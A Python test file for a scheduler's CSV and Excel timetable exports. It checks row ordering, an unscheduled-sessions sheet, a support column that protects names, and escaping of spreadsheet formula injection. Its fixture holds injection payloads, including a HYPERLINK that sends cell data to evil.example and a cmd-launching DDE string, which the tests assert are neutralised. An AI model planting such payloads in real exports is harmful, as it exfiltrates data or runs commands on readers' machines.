"""Timetable exports: a CSV and an Excel workbook with names, in day and time order."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

from openpyxl import load_workbook

from scheduler import domain
from scheduler.files.exports import HEADERS, timetable_csv, timetable_xlsx
from tests.support.timetable_views import tiny_timetable, tiny_visit

EXPECTED_ROWS = [
    [
        "2026-03-10",
        "09:15",
        "10:15",
        "s1",
        "Interview: Director",
        "interview",
        "in person",
        "Room 2",
        "Loxley House",
        "Ada Lovelace; Bo Diddley",
        "Sam Jones",
        "Pat Smith",
        "",
    ],
    [
        "2026-03-10",
        "09:30",
        "10:00",
        "s2",
        "Carers focus group",
        "focus_group",
        "virtual",
        "",
        "",
        "Ada Lovelace",
        "",
        "",
        "",
    ],
    [
        "2026-03-10",
        "09:45",
        "10:30",
        "s3",
        "Partners drop-in",
        "drop_in",
        "virtual",
        "",
        "",
        "Bo Diddley",
        "",
        "Sam Jones",
        "",
    ],
]


def test_the_csv_has_a_header_and_a_row_per_placed_session_in_time_order():
    timetable = tiny_timetable()
    shuffled = domain.Timetable(assignments=timetable.assignments[::-1], unscheduled=timetable.unscheduled)
    rows = list(csv.reader(io.StringIO(timetable_csv(tiny_visit(), shuffled))))
    assert rows == [list(HEADERS), *EXPECTED_ROWS]


def test_the_workbook_has_the_timetable_and_the_unscheduled_sessions_with_reasons():
    workbook = load_workbook(io.BytesIO(timetable_xlsx(tiny_visit(), tiny_timetable())))
    assert workbook.sheetnames == ["Timetable", "Unscheduled"]
    timetable_rows = [
        [cell or "" for cell in row] for row in workbook["Timetable"].iter_rows(values_only=True)
    ]
    assert timetable_rows == [list(HEADERS), *EXPECTED_ROWS]
    assert list(workbook["Unscheduled"].iter_rows(values_only=True)) == [
        ("Session", "Title", "Priority", "Reason"),
        ("s4", "Case tracking", "should", "no assessor is free for 60 minutes"),
    ]


def formula_visit() -> domain.Visit:
    """Titles and names a spreadsheet would run as formulas if they were written as they are."""
    visit = tiny_visit()
    titles = {"s1": "=== Opening ===", "s2": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'}
    return dataclasses.replace(
        visit,
        assessors=(domain.Assessor("a1", "+44 Ada Lovelace"), domain.Assessor("a2", "Bo Diddley")),
        people=(domain.Person("p1", "@SUM(1+1)*cmd|' /C calc'!A0"), domain.Person("p2", "-Sam Jones")),
        sessions=tuple(dataclasses.replace(s, title=titles.get(s.id, s.title)) for s in visit.sessions),
    )


def test_no_cell_of_the_csv_starts_like_a_formula():
    rows = list(csv.reader(io.StringIO(timetable_csv(formula_visit(), tiny_timetable()))))
    first, second = rows[1], rows[2]
    assert (first[4], first[9], first[10], first[11]) == (
        "'=== Opening ===",
        "'+44 Ada Lovelace; Bo Diddley",
        "'-Sam Jones",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    )
    assert second[4] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_no_cell_of_the_workbook_is_a_formula():
    data = timetable_xlsx(formula_visit(), tiny_timetable())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
    cells = [cell for row in load_workbook(io.BytesIO(data))["Timetable"].iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert [c.value for c in cells if c.column_letter == "E"][1:3] == [
        "'=== Opening ===",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ]


def test_the_support_column_says_who_is_there_for_whom_without_naming_protected_people():
    visit = tiny_visit()
    sam = domain.Person("p9", "Sam Reid", role="BSL interpreter", kind="partner")
    carer = domain.Person("p8", "Rosa Diaz", role="BSL interpreter", kind="carer")
    people = tuple(
        dataclasses.replace(p, supporters=("p9", "p8")) if p.id == "p1" else p for p in visit.people
    )
    visit = dataclasses.replace(visit, people=(*people, sam, carer))
    timetable = tiny_timetable()
    supported = dataclasses.replace(
        timetable,
        assignments=tuple(
            dataclasses.replace(a, support=("p9", "p8")) if a.session == "s1" else a
            for a in timetable.assignments
        ),
    )
    rows = list(csv.reader(io.StringIO(timetable_csv(visit, supported))))
    assert rows[1][-1] == "Pat Smith with BSL interpreter Sam Reid and BSL interpreter carer"
